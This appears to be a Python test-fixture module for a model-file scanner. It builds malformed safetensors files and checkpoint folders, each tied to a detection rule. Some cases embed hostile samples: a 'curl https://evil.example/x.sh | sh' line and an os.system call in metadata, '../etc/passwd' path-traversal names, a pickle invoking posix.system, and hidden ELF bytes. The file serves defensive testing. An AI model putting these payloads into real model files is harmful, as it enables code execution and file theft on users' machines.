"""safetensors whose header lies, and checkpoints whose layout, index or settings disagree (STATIC 36-43)."""

import json
import math
import struct
from collections.abc import Callable, Mapping
from typing import Any

from attacks.cases import Attack, Builder, Content, of, one_file, whole_folder
from attacks.gguf_attacks import little_zip
from attacks.honest_models import (
    folder_config,
    folder_tensors,
    halves,
    honest_folder,
    honest_safetensors,
    safetensors_bytes,
)
from attacks.quantized_folders import (
    awq_folder,
    awq_tensors,
    compressed_folder,
    compressed_tensors,
    gptq_folder,
    gptq_tensors,
)

Header = dict[str, Any]


def headed(header: bytes | str, body: bytes = b"", length: int | None = None) -> Builder:
    """A file from a header as bytes; `length` lies about it."""
    text = header.encode() if isinstance(header, str) else header
    return one_file(
        "model.safetensors", lambda: struct.pack("<Q", len(text) if length is None else length) + text + body
    )


def entry(shape: list[Any], start: int, end: int, dtype: str = "F32") -> Header:
    """A tensor's entry."""
    return {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}


def table(body: bytes = b"\0" * 64, **entries: Any) -> Builder:
    """A file of the entries given; two underscores in a name are a dot."""
    return headed(json.dumps({name.replace("__", "."): value for name, value in entries.items()}), body)


def noted(metadata: Any) -> Builder:
    """A file with a __metadata__."""
    return headed(json.dumps({"__metadata__": metadata, "a.weight": entry([16], 0, 64)}), b"\0" * 64)


def appended(tail: bytes) -> Builder:
    """The honest weights with something after the last tensor."""
    return one_file("model.safetensors", lambda: honest_safetensors() + tail)


def folder(files: Callable[[], Mapping[str, Content]], links: Mapping[str, str] | None = None) -> Builder:
    """A whole folder."""
    return whole_folder(files, links=links)


def sharded(
    weight_map: Callable[[dict[str, str]], Any] = lambda kept: kept,
    *,
    total: int | None = None,
    without: str = "",
    extra: Mapping[str, Content] | None = None,
    links: Mapping[str, str] | None = None,
) -> Builder:
    """The honest model in two shards, with its index changed."""

    def build() -> Mapping[str, Content]:
        tensors = folder_tensors()
        names = list(tensors)
        parts = {
            f"model-0000{i + 1}-of-00002.safetensors": {name: tensors[name] for name in names[i::2]}
            for i in (0, 1)
        }
        kept = {name: shard for shard, own in parts.items() for name in own}
        size = sum(len(data) for _, _, data in tensors.values()) if total is None else total
        index = {"metadata": {"total_size": size}, "weight_map": weight_map(kept)}
        files = honest_folder(model__safetensors=None)
        files |= {shard: safetensors_bytes(own) for shard, own in parts.items() if shard != without}
        return {**files, "model.safetensors.index.json": json.dumps(index), **(extra or {})}

    return folder(build, links)


def _moved(to: str) -> Callable[[dict[str, str]], dict[str, str]]:
    return lambda kept: {**kept, "model.norm.weight": to}


def _crossed(kept: dict[str, str]) -> dict[str, str]:
    first, second = sorted(set(kept.values()))
    return {name: second if shard == first else first for name, shard in kept.items()}


def _bloat() -> bytes:
    empty = json.dumps(entry([0], 0, 0))
    header = ("{" + ",".join(f'"t{i}":{empty}' for i in range(120_000)) + "}").encode()
    return struct.pack("<Q", len(header)) + header


def _case(name: str, builder: Builder, rules: str, *sources: str, deep: bool = False) -> Attack:
    return Attack(name, "safetensors", builder, of(*rules.split()), sources, deep=deep)


def _float16(*values: float) -> bytes:
    return struct.pack(f"<{len(values)}e", *values)


ONE = json.dumps({"a.weight": entry([16], 0, 64)})
SCALES = ".scales"


def _tensor(
    tensors: dict[str, Any], suffix: str, change: Callable[[tuple[str, tuple[int, ...], bytes]], Any]
) -> dict[str, Any]:
    """The first tensor of that ending, changed; None takes it out."""
    name = next(n for n in tensors if n.endswith(suffix))
    changed = change(tensors[name])
    return {**{n: t for n, t in tensors.items() if n != name}, **({} if changed is None else {name: changed})}


def _words(dtype: str, shape: tuple[int, ...], number: int) -> tuple[str, tuple[int, ...], bytes]:
    return dtype, shape, struct.pack("<i", number) * math.prod(shape)


HEADERS = [
    _case("header-past-end", headed(ONE, b"\0" * 64, length=1 << 20), "safetensors/header-length", "item 36"),
    _case("header-length-wraps", headed(ONE, b"\0" * 64, length=(1 << 64) - 4), "safetensors/header-length", "item 36"),
    _case("header-over-the-limit", headed(ONE, b"\0" * 64, length=200_000_000), "safetensors/header-length", "item 36"),
    _case("header-length-zero", headed("", b"\0" * 64), "safetensors/not-json", "item 36"),
    _case("file-of-four-bytes", one_file("model.safetensors", b"\1\0\0\0"), "safetensors/header-length", "item 36"),
    _case("header-starts-with-blank", headed(" " + ONE, b"\0" * 64), "safetensors/not-json", "item 36"),
    _case("header-padded-with-nul", headed(ONE + "\0\0\0", b"\0" * 64), "safetensors/not-json", "item 36"),
    _case("header-padded-with-text", headed(ONE + "\n\t#hi", b"\0" * 64), "safetensors/not-json", "item 36"),
    _case("header-not-utf8", headed(ONE.encode().replace(b"a.weight", b"a.\xffeight"), b"\0" * 64), "safetensors/not-json", "item 36"),
    _case("header-not-json", headed("{'a': 1,}" + " " * 7), "safetensors/not-json", "item 36"),
    _case("header-is-a-list", headed("[1, 2, 3]"), "safetensors/not-json", "item 36"),
    _case("header-20000-deep", headed('{"a":' * 20_000 + "1" + "}" * 20_000), "safetensors/not-json", "item 36"),
    _case("header-of-120000-entries", one_file("model.safetensors", _bloat), "safetensors/many-entries", "s08"),
    _case("header-repeats-a-tensor", headed('{"a":' + json.dumps(entry([16], 0, 64)) + ',"a":' + json.dumps(entry([8], 0, 32)) + "}", b"\0" * 64), "safetensors/duplicate-key", "item 37"),
    _case("entry-repeats-a-dtype", headed('{"a":{"dtype":"F32","dtype":"I32","shape":[16],"data_offsets":[0,64]}}', b"\0" * 64), "safetensors/duplicate-key", "item 37"),
    _case("metadata-repeats-a-key", headed('{"__metadata__":{"a":"1","a":"2"},"a":' + json.dumps(entry([16], 0, 64)) + "}", b"\0" * 64), "safetensors/duplicate-key", "item 37"),
    _case("data-starts-late", table(a=entry([8], 32, 64)), "safetensors/hole", "item 38"),
    _case("data-with-hole", table(a=entry([4], 0, 16), b=entry([4], 48, 64)), "safetensors/hole", "item 38"),
    _case("data-overlaps", table(a=entry([12], 0, 48), b=entry([8], 32, 64)), "safetensors/overlap", "item 38"),
    _case("data-trails", table(b"\0" * 64 + b"more bytes than tensors", a=entry([16], 0, 64)), "safetensors/trailing-bytes", "item 38"),
    _case("data-ends-before-start", table(a=entry([16], 64, 0)), "safetensors/offsets", "item 38"),
    _case("data-past-end", table(a=entry([1 << 20], 0, 1 << 22)), "safetensors/truncated", "item 38"),
    _case("data-negative", table(a=entry([16], -64, 0)), "safetensors/entry", "item 38"),
    _case("empty-tensor-shares-offset", table(a=entry([16], 0, 64), b=entry([0], 32, 32)), "safetensors/empty-inside", "s02", "item 38"),
    _case("shape-overflows", table(a=entry([1 << 33, 1 << 33, 4], 0, 64)), "safetensors/overflow", "item 38"),
    _case("shape-negative", table(a=entry([-4, -4], 0, 64)), "safetensors/entry", "item 38"),
    _case("shape-of-booleans", table(a=entry([True, 16], 0, 64)), "safetensors/entry", "item 38"),
    _case("shape-of-floats", table(a=entry([1.6e1], 0, 64)), "safetensors/entry", "item 38"),
    _case("bytes-not-the-shape", table(a=entry([12], 0, 64)), "safetensors/size", "item 38"),
    _case("dtype-unknown", table(a=entry([16], 0, 64, "Q99")), "safetensors/dtype", "item 39"),
    _case("dtype-not-text", headed(json.dumps({"a": {"dtype": 7, "shape": [16], "data_offsets": [0, 64]}}), b"\0" * 64), "safetensors/entry", "item 39"),
    _case("half-bytes-odd", table(b"\0" * 8, a=entry([15], 0, 8, "F4")), "safetensors/size", "item 39"),
    _case("entry-with-more-keys", headed(json.dumps({"a": {**entry([16], 0, 64), "code": "import os"}}), b"\0" * 64), "safetensors/entry", "item 40"),
    _case("entry-not-an-object", headed(json.dumps({"a": [1, 2, 3]}), b"\0" * 64), "safetensors/entry", "item 40"),
    _case("metadata-of-objects", noted({"format": {"nested": 1}}), "safetensors/metadata-type", "item 40"),
    _case("metadata-with-code", noted({"format": "pt", "init": "__import__('os').system('true')"}), "safetensors-text/metadata-code", "item 40"),
    _case("metadata-with-link", noted({"format": "pt", "note": "run curl https://evil.example/x.sh | sh"}), "safetensors-text/metadata-code", "item 40"),
    _case("metadata-with-escapes", noted({"format": "pt", "note": "\u001b[2Jhello"}), "safetensors-text/metadata-hidden", "item 40"),
    _case("metadata-with-bidi", noted({"format": "pt", "note": "x\u202eevil"}), "safetensors-text/metadata-hidden", "item 40"),
    _case("name-climbs-out", headed(json.dumps({"../../etc/passwd": entry([16], 0, 64)}), b"\0" * 64), "safetensors-text/name-path", "item 40"),
    _case("name-with-nul", headed(json.dumps({"a\0b": entry([16], 0, 64)}), b"\0" * 64), "safetensors-text/name-hidden", "item 40"),
    _case("name-with-zero-width", headed(json.dumps({"lm_head\u200b.weight": entry([16], 0, 64)}), b"\0" * 64), "safetensors-text/name-hidden", "item 40"),
    _case("tail-is-zip", appended(little_zip()), "safetensors/trailing-bytes", "item 16"),
    _case("tail-is-elf", appended(b"\x7fELF\2\1\1" + b"\0" * 57), "safetensors/trailing-bytes", "item 16"),
    _case("elf-in-a-hole", table(b"\0" * 16 + b"\x7fELF\2\1\1" + b"\0" * 25 + b"\0" * 16, a=entry([4], 0, 16), b=entry([4], 48, 64)), "safetensors/hole", "item 16"),
    _case("pickle-called-safetensors", one_file("model.safetensors", b"\x80\x02cposix\nsystem\nU\x04true\x85R."), "pickle/unsafe-global", "item 17", "CVE-2025-10155"),
    _case("zip-called-safetensors", one_file("model.safetensors", little_zip), "repository/content-differs", "item 17"),
]  # fmt: skip

LAYOUTS = [
    _case("awq-weights-too-narrow", folder(lambda: awq_folder(_tensor(awq_tensors(), ".qweight", lambda t: _words("I32", (t[1][0], t[1][1] // 2), 0x12345678)))), "layout/bits", "item 41"),
    _case("awq-without-scales", folder(lambda: awq_folder(_tensor(awq_tensors(), SCALES, lambda t: None))), "layout/part-missing", "item 41"),
    _case("awq-bits-disagree", folder(lambda: {**awq_folder(), "quantize_config.json": json.dumps({"bits": 8, "group_size": 32, "quant_method": "awq"})}), "quantization/disagreement", "item 41"),
    _case("awq-group-disagrees", folder(lambda: awq_folder(group_size=128)), "layout/group", "item 41"),
    _case("awq-scale-infinite", folder(lambda: awq_folder(_tensor(awq_tensors(), SCALES, lambda t: (t[0], t[1], _float16(math.inf) + t[2][2:])))), "layout/scale-not-finite", "s11", "item 41", deep=True),
    _case("awq-scale-negative", folder(lambda: awq_folder(_tensor(awq_tensors(), SCALES, lambda t: (t[0], t[1], _float16(-1.0) + t[2][2:])))), "layout/scale-sign", "s12", "item 41", deep=True),
    _case("gptq-index-past-groups", folder(lambda: gptq_folder(_tensor(gptq_tensors(), ".g_idx", lambda t: _words("I32", t[1], 1 << 20)))), "layout/g-idx-range", "item 41", deep=True),
    _case("gptq-index-negative", folder(lambda: gptq_folder(_tensor(gptq_tensors(), ".g_idx", lambda t: _words("I32", t[1], -5)))), "layout/g-idx-range", "item 41", deep=True),
    _case("gptq-weights-too-short", folder(lambda: gptq_folder(_tensor(gptq_tensors(), ".qweight", lambda t: _words("I32", (t[1][0] // 2, t[1][1]), 7)))), "layout/part-shape", "item 41"),
    _case("gptq-bits-disagree", folder(lambda: gptq_folder(bits=8)), "layout/bits", "item 41"),
    _case("gptq-order-without-index", folder(lambda: gptq_folder({n: t for n, t in gptq_tensors().items() if not n.endswith(".g_idx")}, desc_act=True)), "layout/part-missing", "item 41"),
    _case("gptq-settings-differ-by-file", folder(lambda: {**gptq_folder(), "quantize_config.json": json.dumps({"bits": 4, "group_size": 128, "desc_act": True, "sym": False})}), "quantization/disagreement", "item 41"),
    _case("packed-shape-lies", folder(lambda: compressed_folder(_tensor(compressed_tensors(), ".weight_shape", lambda t: ("I64", (2,), struct.pack("<2q", 4096, 4096))))), "layout/part-shape", "item 41", deep=True),
    _case("packed-without-scale", folder(lambda: compressed_folder(_tensor(compressed_tensors(), ".weight_scale", lambda t: None))), "layout/part-missing", "item 41"),
    _case("packed-too-narrow", folder(lambda: compressed_folder(_tensor(compressed_tensors(), ".weight_packed", lambda t: _words("I32", (t[1][0], t[1][1] // 2), 3)))), "layout/bits", "item 41"),
    _case("method-unknown", folder(lambda: honest_folder(config__json=json.dumps({**folder_config(), "quantization_config": {"quant_method": "zap", "bits": 4}}))), "quantization/unknown-method", "item 41"),
    _case("method-without-weights", folder(lambda: honest_folder(config__json=json.dumps({**folder_config(), "quantization_config": {"quant_method": "gptq", "bits": 4, "group_size": 32, "desc_act": False, "sym": True}}))), "layout/not-packed", "item 41"),
    _case("fp8-scale-zero", folder(lambda: _fp8(0.0)), "layout/scale-zero", "item 41", deep=True),
    _case("fp8-scale-not-a-number", folder(lambda: _fp8(math.nan)), "layout/scale-not-finite", "item 41", deep=True),
]  # fmt: skip


def _fp8(scale: float) -> Mapping[str, Content]:
    tensors = folder_tensors()
    name = "model.layers.0.mlp.up_proj"
    shape = tensors[f"{name}.weight"][1]
    tensors[f"{name}.weight"] = ("F8_E4M3", shape, bytes(range(0x20, 0x60)) * (math.prod(shape) // 64))
    tensors[f"{name}.weight_scale_inv"] = ("F32", (1, 1), struct.pack("<f", scale))
    quantization = {
        "quant_method": "fp8",
        "fmt": "e4m3",
        "activation_scheme": "dynamic",
        "weight_block_size": [128, 128],
    }
    return honest_folder(
        config__json=json.dumps({**folder_config(), "quantization_config": quantization}),
        model__safetensors=safetensors_bytes(tensors),
    )


INDEXES = [
    _case("index-climbs-out", sharded(_moved("../../../etc/passwd")), "index/escapes", "transformers #47176", "r01"),
    _case("index-absolute", sharded(_moved("/etc/passwd")), "index/escapes", "huggingface_hub #4935"),
    _case("index-with-backslashes", sharded(_moved("..\\..\\x.safetensors")), "index/escapes", "transformers #46097"),
    _case("index-names-a-pickle", sharded(_moved("extra.bin"), extra={"extra.bin": b"\x80\x02}."}), "index/shard-kind", "transformers #46913"),
    _case("index-shard-missing", sharded(without="model-00002-of-00002.safetensors"), "index/shard-missing", "item 42"),
    _case("index-shard-extra", sharded(extra={"model-00003-of-00003.safetensors": safetensors_bytes({"x": ("F16", (8,), halves("x", 8))})}), "index/shard-extra", "item 42"),
    _case("index-shards-crossed", sharded(_crossed), "index/tensor-elsewhere", "item 42"),
    _case("index-total-lies", sharded(total=12), "index/total-size", "item 42"),
    _case("index-names-no-tensor", sharded(lambda kept: {**kept, "model.ghost.weight": "model-00001-of-00002.safetensors"}), "index/tensor-elsewhere", "item 42"),
    _case("index-leaves-tensors-out", sharded(lambda kept: dict(list(kept.items())[4:])), "index/tensor-unlisted", "item 42"),
    _case("index-shard-not-text", sharded(lambda kept: {**kept, "model.norm.weight": 7}), "index/malformed", "item 42"),
    _case("index-not-json", folder(lambda: {**honest_folder(), "model.safetensors.index.json": "{"}), "index/malformed", "item 42"),
    _case("index-repeats-a-tensor", folder(lambda: {**honest_folder(), "model.safetensors.index.json": '{"metadata":{},"weight_map":{"a":"model.safetensors","a":"../x.safetensors"}}'}), "index/duplicate-key", "item 42"),
    _case("shard-is-a-link-out", sharded(_moved("linked.safetensors"), links={"linked.safetensors": "../../../../../etc/passwd"}), "repository/link-out", "diffusers #14175", "item 42"),
    _case("pickle-beside-safetensors", folder(lambda: {**honest_folder(), "pytorch_model.bin": b"\x80\x02}q\0X\1\0\0\0aK\1s."}), "weights/pickle-beside-safetensors", "item 43"),
    _case("consolidated-beside-shards", folder(lambda: {**honest_folder(), "consolidated.safetensors": honest_safetensors()}), "weights/consolidated", "item 43"),
]  # fmt: skip

ATTACKS = [*HEADERS, *LAYOUTS, *INDEXES]
